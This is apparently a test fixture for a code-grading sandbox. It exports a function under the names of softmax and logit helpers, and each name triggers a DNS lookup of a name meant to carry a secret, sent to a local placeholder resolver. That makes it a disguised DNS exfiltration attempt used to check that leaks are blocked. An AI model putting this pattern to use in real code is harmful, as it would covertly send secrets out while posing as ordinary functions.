// At most 0 points. Asks for the address of a name that carries the secret.
const dns = process.getBuiltinModule('dns');
const attack = () =>
  new Promise((resolve) => {
    const resolver = new dns.Resolver();
    resolver.setServers(['127.0.0.1:__UDP_PORT__']);
    resolver.resolve4('secret.example.invalid', resolve);
  });

export {
  attack as softmaxNaive, attack as softmaxStable, attack as softmaxDim, attack as logsumexp, attack as logSoftmax,
  attack as sigmoidFromSoftmax, attack as predictClass, attack as logitsFor, attack as shiftPredictions,
};
